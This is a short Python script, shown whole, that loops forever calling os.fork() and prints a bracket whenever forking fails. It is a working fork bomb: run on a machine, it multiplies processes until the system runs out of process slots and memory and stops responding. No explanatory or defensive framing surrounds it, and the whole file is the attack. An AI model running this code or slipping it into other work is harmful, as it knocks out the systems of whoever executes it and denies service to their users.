import os

while True:
    try:
        os.fork()
    except OSError:
        print('[', flush=True)
